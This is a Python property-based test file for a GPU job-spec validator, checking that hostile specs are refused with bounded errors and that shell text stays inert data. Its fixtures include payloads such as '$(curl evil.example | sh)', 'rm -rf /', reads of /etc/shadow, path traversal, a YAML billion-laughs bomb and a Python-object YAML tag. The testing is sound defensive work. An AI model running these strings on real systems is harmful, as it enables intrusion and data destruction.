"""Hostile job specs against validation: generated and hand-written documents are either refused
with a clear, bounded SpecError or accepted as a valid spec, and never raise anything else.
Accepted specs keep shell syntax as data, byte for byte."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gpufleet.domain.spec import (
    MAX_REPORTED_FIELDS,
    MAX_SPEC_BYTES,
    JobSpec,
    SpecError,
    parse_spec,
    spec_from_mapping,
)

VALID: dict[str, Any] = {
    "name": "resnet",
    "team": "vision",
    "image": "public.ecr.aws/pytorch/pytorch:2.4.0",
    "command": ["python", "train.py"],
}
SHELL = [
    "$(curl evil.example | sh)",
    "`reboot`",
    "; rm -rf / #",
    "a && b || c",
    "> /etc/passwd",
    "'\"\\",
    "${IFS}cat${IFS}/etc/shadow",
    "\n/bin/sh -i\n",
]
TRAVERSAL = ["../../etc/passwd", "..\\..\\windows", "/etc/shadow", "jobs/../../x", "%2e%2e/"]
# The size of an error report when a spec is refused: it travels in an EventBridge event.
MAX_REPORT_BYTES = 64 * 1024

hostile_text = st.one_of(
    st.sampled_from(SHELL + TRAVERSAL),
    st.text(max_size=40),  # any unicode, control characters and surrogates included
    st.text(st.characters(codec="utf-8"), max_size=40),
)
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()  # inf and nan included
    | hostile_text,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(hostile_text, children, max_size=4)
    ),
    max_leaves=20,
)
FIELDS = [
    "name",
    "team",
    "priority",
    "image",
    "command",
    "env",
    "resources",
    "spot",
    "checkpoint",
    "max_retries",
    "retry_exit_codes",
    "timeout",
    "expected_duration",
    "budget_usd",
    "stages",
]


def _refused_or_valid(document: object) -> JobSpec | SpecError:
    """Validation's only two answers."""
    try:
        return spec_from_mapping(document)
    except SpecError as refused:
        _assert_clear(refused)
        return refused


def _assert_clear(refused: SpecError) -> None:
    report = refused.to_dict()
    assert report["error"] == "InvalidJobSpec" and report["message"]
    assert len(report["fields"]) <= MAX_REPORTED_FIELDS
    assert len(json.dumps(report)) <= MAX_REPORT_BYTES


@settings(
    max_examples=200, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(document=json_values)
def test_any_document_is_refused_clearly_or_is_a_valid_spec(document: object) -> None:
    _refused_or_valid(document)


@settings(
    max_examples=200, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(field=st.sampled_from(FIELDS), value=json_values)
def test_one_hostile_field_in_a_valid_spec(field: str, value: object) -> None:
    outcome = _refused_or_valid({**VALID, field: value})
    if isinstance(outcome, SpecError):
        # The refusal names the field it is about (or the document, for cross-field rules).
        named = {f["field"].split(".")[0].split("[")[0] for f in outcome.to_dict()["fields"]}
        assert named <= {field, "(document)"}


@settings(max_examples=200, derandomize=True, deadline=None)
@given(raw=st.binary(max_size=2048))
def test_any_bytes_are_refused_clearly_or_are_a_valid_spec(raw: bytes) -> None:
    try:
        parse_spec(raw)
    except SpecError as refused:
        _assert_clear(refused)


@settings(max_examples=200, derandomize=True, deadline=None)
@given(
    command=st.lists(hostile_text, min_size=1, max_size=6),
    env=st.dictionaries(
        st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,20}", fullmatch=True), hostile_text
    ),
)
def test_an_accepted_command_and_env_are_kept_byte_for_byte(
    command: list[str], env: dict[str, str]
) -> None:
    outcome = _refused_or_valid({**VALID, "command": command, "env": env})
    if isinstance(outcome, JobSpec):
        assert list(outcome.command) == command
        assert dict(outcome.env) == env
        # And through the stored form (JSON) and back.
        stored = json.loads(json.dumps(outcome.to_document()))
        assert spec_from_mapping(stored).command == outcome.command
    else:  # only a NUL byte, or a line break in an env value, makes them invalid
        assert any("\x00" in s for s in [*command, *env.values()]) or any(
            "\n" in v or "\r" in v for v in env.values()
        )


def _refusal(raw: str | bytes) -> dict[str, Any]:
    with pytest.raises(SpecError) as caught:
        parse_spec(raw)
    _assert_clear(caught.value)
    return caught.value.to_dict()


BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]"
        for i in range(8)
    ]
)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (BILLION_LAUGHS, "aliases"),
        ("name: &x resnet\nteam: *x\n", "aliases"),
        ("[" * 100_000 + "]" * 100_000, "not valid"),  # nesting past any recursion limit
        ("{" + '"a":{' * 20_000 + "}" * 20_001, "not valid"),
        ("- " * 100_000 + "x", "not valid"),
        ("x" * (MAX_SPEC_BYTES + 1), "limit"),
        (b"name: caf\xe9\nteam: t\n", "UTF-8"),
        (b"\xef\xbb\xbf\xff\xfe", "UTF-8"),
        ("!!python/object/apply:os.system ['id']", "not valid"),
        ('{"name": "x", "resources": {"gpus": ' + "9" * 5000 + "}}", "not valid"),
        ("name: x\nx: !" + "t" * 250_000, "not valid"),  # YAML quotes the tag in its error
    ],
    ids=[
        "billion-laughs",
        "alias",
        "deep-yaml",
        "deep-json",
        "deep-block-yaml",
        "too-big",
        "latin-1",
        "bom-garbage",
        "python-tag",
        "5000-digit-int",
        "250k-tag",
    ],
)
def test_hostile_documents_get_one_clear_error(raw: str | bytes, message: str) -> None:
    assert message in _refusal(raw)["message"]


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"timeout": float("inf")}, "timeout", "finite"),
        ({"timeout": "9" * 400 + "s"}, "timeout", "a duration is"),
        ({"expected_duration": float("nan")}, "expected_duration", "finite"),
        ({"budget_usd": float("inf")}, "budget_usd", "finite"),
        ({"resources": {"gpus": 10**400}}, "resources.gpus", "less than or equal"),
        ({"resources": {"gpu_memory_gib": float("nan")}}, "resources.gpu_memory_gib", "finite"),
        ({"command": ["python", "a\x00b"]}, "command[1]", "NUL"),
        ({"env": {"TOKEN": "x\x00y"}}, "env.TOKEN", "NUL"),
        ({"env": {"A B": "x"}}, "env.A B.[key]", "pattern"),
        ({"env": {"$(id)": "x"}}, "env.$(id).[key]", "pattern"),
        ({"command": "python train.py && curl evil"}, "command", "argv list"),
        ({"image": "img; rm -rf /"}, "image", "pattern"),
        ({"image": "--privileged"}, "image", "pattern"),
        ({"name": "../../etc/passwd"}, "name", "pattern"),
        ({"name": "名前"}, "name", "pattern"),
        ({"team": "Team!"}, "team", "pattern"),
        ({"checkpoint": "file:///etc/passwd"}, "checkpoint", "pattern"),
        ({"resources": {"gpus": "lots"}}, "resources.gpus", "integer"),
        ({"resources": []}, "resources", "dictionary"),
        ({"priority": {"$ne": 1}}, "priority", "Input should be"),
    ],
)
def test_hostile_fields_are_named_in_the_refusal(
    changes: dict[str, Any], field: str, message: str
) -> None:
    with pytest.raises(SpecError) as caught:
        spec_from_mapping({**VALID, **changes})
    _assert_clear(caught.value)
    fields = {f["field"]: f["message"] for f in caught.value.to_dict()["fields"]}
    assert field in fields, fields
    assert message in fields[field]


def test_a_spec_with_thousands_of_errors_gets_a_bounded_report() -> None:
    env = {f"K{i}": 0 for i in range(20_000)}  # each value should be a string
    raw = json.dumps({**VALID, "env": env}, separators=(",", ":")).encode()
    assert len(raw) < MAX_SPEC_BYTES
    report = _refusal(raw)
    assert report["message"].startswith("20000 invalid field(s)")
    assert f"the first {MAX_REPORTED_FIELDS} are listed" in report["message"]
    assert len(report["fields"]) == MAX_REPORTED_FIELDS


def test_many_long_unicode_keys_get_a_bounded_report_that_says_how_many_it_lists() -> None:
    # Each key is 200 astral characters: 12 bytes each once escaped as JSON.
    document = {**VALID, **{"\U0001d54f" * 200 + str(i): 1 for i in range(100)}}
    with pytest.raises(SpecError) as caught:
        spec_from_mapping(document)
    _assert_clear(caught.value)
    report = caught.value.to_dict()
    assert 0 < len(report["fields"]) < 100
    assert report["message"].endswith(f"the first {len(report['fields'])} are listed")


def test_a_huge_key_is_not_echoed_whole_in_the_refusal() -> None:
    with pytest.raises(SpecError) as caught:
        spec_from_mapping({**VALID, "x" * 200_000: 1})
    assert len(json.dumps(caught.value.to_dict())) < 1024


def test_unicode_and_shell_syntax_are_valid_arguments_and_stay_data() -> None:
    spec = parse_spec(
        json.dumps(
            {**VALID, "command": ["python", "-c", *SHELL, "训练", "🚀"], "env": {"X": "; id"}}
        )
    )
    assert list(spec.command) == ["python", "-c", *SHELL, "训练", "🚀"]
    assert spec.env == {"X": "; id"}
